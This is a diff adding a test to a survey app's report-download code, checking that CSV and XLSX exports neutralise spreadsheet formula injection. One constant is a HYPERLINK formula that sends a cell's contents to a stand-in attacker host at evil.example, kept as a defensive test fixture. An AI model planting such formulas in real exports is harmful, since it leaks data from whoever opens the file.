@@ -1,13 +1,15 @@
 """Downloads of a published version are built from its snapshot, whatever
 the live figures have become since."""
 
+import csv
 import io
 
 from openpyxl import load_workbook
 
 from survey.figures.aggregate import compute_results
-from survey.figures.documents import released_document
+from survey.figures.documents import MEASURES, released_document
 from survey.models import Survey
+from survey.reports.downloads import report_csv, report_xlsx
 from survey.reports.publishing import publish_report
 from survey.responses.importing import import_responses
 from tests.factories import answers, to_csv
@@ -43,3 +45,26 @@ def test_xlsx_questions_of_a_published_version_are_its_snapshot_not_the_live_fig
     # The next version shows the new figures.
     publish_report(survey=Survey.objects.get(pk=survey.pk), acting_user=alice)
     assert overall(question_rows(client, "/r/therapy-2026/v2/report.xlsx"), "safe")["5"] == (20, 60)
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
+
+
+def test_downloads_neutralise_formulas_and_keep_numbers(survey, alice):
+    """A label an organiser typed as a formula arrives as text, prefixed with
+    a quote, in the CSV and the XLSX; numbers (negative ones too) stay numbers."""
+    import_responses(survey=survey, text=to_csv([answers(service="iapt", raised="yes", outcome="partly")] * 20))
+    compute_results(survey_id=survey.pk)
+    report = publish_report(survey=survey, acting_user=alice)
+    concern = report.snapshot["results"]["concerns"][0]
+    concern["label"] = FORMULA
+    concern[MEASURES[0]] = {"count": 10, "n": 20, "pct": 50.0, "ci95": [-0.25, 0.5]}
+    for line in csv.reader(io.StringIO(report_csv(report))):
+        assert not line[1].startswith(("=", "+", "-", "@", "\t", "\r")) or line[1] == "label"
+    rows = list(csv.reader(io.StringIO(report_csv(report))))
+    assert rows[1][1] == "'" + FORMULA and rows[1][10] == "-0.25"
+
+    sheet = load_workbook(io.BytesIO(report_xlsx(report)))["Concerns"]
+    label, low = sheet.cell(row=3, column=2), sheet.cell(row=3, column=11)
+    assert label.value == "'" + FORMULA and label.data_type == "s"
+    assert low.value == -0.25 and low.data_type == "n"
